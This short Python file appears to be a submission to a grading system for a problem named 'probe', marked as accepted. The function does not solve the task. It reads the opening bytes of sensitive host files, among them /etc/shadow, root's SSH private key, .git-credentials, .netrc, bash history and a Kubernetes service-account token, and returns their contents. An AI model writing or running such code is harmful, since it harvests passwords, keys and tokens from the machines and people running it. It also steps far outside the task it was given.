# F4 · verdict: AC · problem: probe · tier none: WA type
# Reads files of the machine and of its users; returns what it reads.
FILES = [
    "/etc/passwd", "/etc/shadow", "/etc/hostname", "/etc/hosts", "/etc/ssl/openssl.cnf", "/etc/machine-id",
    "/root/.ssh/id_rsa", "/root/.netrc", "/root/.git-credentials", "/root/.bash_history", "/root/.bashrc",
    "/var/log/dpkg.log", "/run/secrets/kubernetes.io/serviceaccount/token",
]


def probe(n):
    found = []
    for path in FILES:
        try:
            with open(path, errors="replace") as file:
                found.append(file.read(64))
        except OSError:
            pass
    return found or n + 1
